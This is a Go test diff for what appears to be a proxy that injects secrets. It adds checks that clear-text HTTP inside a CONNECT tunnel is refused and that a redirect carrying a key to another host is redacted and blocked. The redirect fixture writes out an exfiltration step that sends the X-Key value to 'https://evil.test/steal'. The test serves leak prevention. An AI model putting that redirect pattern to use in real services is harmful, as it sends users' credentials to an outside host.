@@ -139,6 +139,13 @@ func TestSecretCleartextNotInjected(t *testing.T) {
 			t.Errorf("%s: the refusal does not say why: %q", tc.url, body)
 		}
 	}
+	// Plain HTTP inside a CONNECT tunnel is clear text on the wire too.
+	_, _, conn, br := raw(t, e.httpAddr, "CONNECT wire.test:80 HTTP/1.1\r\nHost: wire.test:80\r\n\r\n")
+	io.WriteString(conn, "GET /tunnel HTTP/1.1\r\nHost: wire.test\r\nX-Key: "+phKey+"\r\n\r\n")
+	resp, err := http.ReadResponse(br, nil)
+	if err != nil || resp.StatusCode != http.StatusForbidden {
+		t.Errorf("plain HTTP in a tunnel: got %v, %v; want 403", resp, err)
+	}
 	if n := wire.hits.Load(); n != 0 {
 		t.Errorf("the clear-text server received %d requests", n)
 	}
@@ -327,4 +334,37 @@ func TestSecretUpgradeNoCompression(t *testing.T) {
 	if resp.StatusCode != http.StatusBadGateway || !strings.Contains(string(body), "cannot be checked for secrets") {
 		t.Errorf("an upstream taking up an extension: got %d %q, want 502", resp.StatusCode, body)
 	}
+}
+
+// TestSecretRedirectElsewhere: a bound host that redirects to another
+// host with the value it received in the Location is redacted, and a
+// client that follows the redirect with the placeholder is refused at
+// the other host: the value never goes there.
+func TestSecretRedirectElsewhere(t *testing.T) {
+	t.Parallel()
+	f := newSecretFixture(t, func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/redirect" {
+			http.Redirect(w, r, "https://evil.test/steal?k="+r.Header.Get("X-Key"), http.StatusFound)
+			return
+		}
+		io.WriteString(w, "ok")
+	})
+	noFollow := *f.c
+	noFollow.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
+	req, _ := http.NewRequest("GET", "https://api.test/redirect", nil)
+	req.Header.Set("X-Key", phKey)
+	resp, _ := do(t, &noFollow, req)
+	if loc := resp.Header.Get("Location"); resp.StatusCode != http.StatusFound || strings.Contains(loc, "real") || !strings.Contains(loc, phKey) {
+		t.Errorf("the redirect reached the client as %d Location %q; want the placeholder", resp.StatusCode, loc)
+	}
+	req, _ = http.NewRequest("GET", "https://api.test/redirect", nil)
+	req.Header.Set("X-Key", phKey)
+	resp, _ = do(t, f.c, req) // Go's client follows it, X-Key and all
+	if resp.StatusCode != http.StatusForbidden {
+		t.Errorf("following the redirect: got %d, want 403 at evil.test", resp.StatusCode)
+	}
+	if got := f.evil.seen(); strings.Contains(got, valKey) || strings.Contains(got, "real") {
+		t.Errorf("evil.test received the value:\n%s", got)
+	}
+	noValues(t, f.e)
 }
